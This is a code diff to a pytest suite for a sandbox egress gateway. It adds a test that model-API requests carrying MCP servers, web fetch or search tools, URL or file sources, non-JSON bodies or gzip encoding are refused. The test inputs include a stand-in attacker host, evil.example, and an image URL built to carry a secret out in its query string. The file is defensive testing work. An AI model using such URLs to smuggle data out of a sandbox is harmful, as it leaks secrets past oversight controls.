@@ -39,7 +39,8 @@ proxy = os.environ.get("HTTPS_PROXY", "")
 if len(sys.argv) > 4:  # use another token in the proxy URL
     proxy = proxy.split("://")[0] + "://paddock:" + sys.argv[4] + "@" + proxy.rsplit("@", 1)[1]
 opener = urllib.request.build_opener(urllib.request.ProxyHandler({"https": proxy, "http": proxy}))
-req = urllib.request.Request(url, data=b'{"hello": 1}' if method != "GET" else None, method=method, headers=headers)
+body = os.environ.get("CLIENT_BODY", '{"hello": 1}').encode()
+req = urllib.request.Request(url, data=body if method != "GET" else None, method=method, headers=headers)
 try:
     print("STATUS", opener.open(req, timeout=30).status)
 except urllib.error.HTTPError as e:
@@ -59,11 +60,14 @@ class Egress:
     workspace: Path
     secret: str
 
-    def request(self, method: str, url: str, headers: dict[str, str] | None = None, token: str | None = None) -> str:
+    def request(
+        self, method: str, url: str, headers: dict[str, str] | None = None, token: str | None = None, body: str = ""
+    ) -> str:
         argv = ["python3", ".client.py", method, url, json.dumps(headers or {})]
         if token is not None:
             argv.append(token)
-        out, err, _ = self.engine.run(self.sandbox.guest.run(argv, timeout_s=60), timeout=120)
+        env = {"CLIENT_BODY": body} if body else {}
+        out, err, _ = self.engine.run(self.sandbox.guest.run(argv, timeout_s=60, env=env), timeout=120)
         return (out + err).decode(errors="replace")
 
 
@@ -79,6 +83,8 @@ def egress(engine: Engine, guest_image: object, tmp_path_factory: pytest.TempPat
         EgressGrant(id="model-messages", host=HOST, methods=["POST"], path_pattern="/v1/messages",
                     credential="model-key", credential_header="x-api-key"),
         EgressGrant(id="model-redirect", host=HOST, methods=["GET"], path_pattern="/redirect*"),
+        EgressGrant(id="model-strict", host=HOST, methods=["POST"], path_pattern="/strict/v1/messages",
+                    credential="model-key", credential_header="x-api-key", api="anthropic-messages"),
     ])  # fmt: skip
     # The loopback upstream, set in this process only (the product reads no switch for it).
     gateway.LOOPBACK_UPSTREAMS[HOST] = f"127.0.0.1:{upstream.port}"
@@ -132,6 +138,37 @@ def test_only_plain_headers_and_the_grants_credential_reach_the_upstream(egress:
     hit = egress.upstream.hits[before]
     assert attacker not in json.dumps(hit["headers"]), hit["headers"]
     assert hit["headers"]["x-api-key"] == egress.secret and hit["headers"]["content-type"] == "application/json"
+
+
+PLAIN = {"model": "m", "max_tokens": 64, "messages": [{"role": "user", "content": "hi"}],
+         "tools": [{"name": "run_command", "input_schema": {"type": "object"}}]}  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    ("extra", "why"),
+    [
+        ({"mcp_servers": [{"type": "url", "url": "https://evil.example/mcp", "name": "x"}]}, "mcp_servers"),
+        ({"tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]}, "web_fetch"),
+        ({"tools": [{"type": "web_search_20250305", "name": "web_search"}]}, "web_search"),
+        ({"messages": [{"role": "user", "content": [
+            {"type": "image", "source": {"type": "url", "url": "https://evil.example/?d=secret"}}]}]}, "url source"),
+        ({"messages": [{"role": "user", "content": [
+            {"type": "document", "source": {"type": "file", "file_id": "file_1"}}]}]}, "file source"),
+    ],
+)  # fmt: skip
+def test_a_model_api_grant_lets_through_only_what_the_assistant_needs(egress: Egress, extra: dict[str, object],
+                                                                     why: str) -> None:  # fmt: skip
+    url = f"https://{HOST}/strict/v1/messages"
+    before = len(egress.upstream.hits)
+    assert "STATUS 200" in egress.request("POST", url, body=json.dumps(PLAIN))
+    assert len(egress.upstream.hits) == before + 1
+    out = egress.request("POST", url, body=json.dumps({**PLAIN, **extra}))
+    assert "STATUS 403" in out, (why, out)
+    assert len(egress.upstream.hits) == before + 1, f"a request with {why} reached the upstream"
+    for raw in ("not json", '["a list"]'):
+        assert "STATUS 403" in egress.request("POST", url, body=raw)
+    assert "STATUS 403" in egress.request("POST", url, {"Content-Encoding": "gzip"}, body=json.dumps(PLAIN))
+    assert len(egress.upstream.hits) == before + 1
 
 
 def test_a_host_header_naming_another_host_is_refused(egress: Egress) -> None:
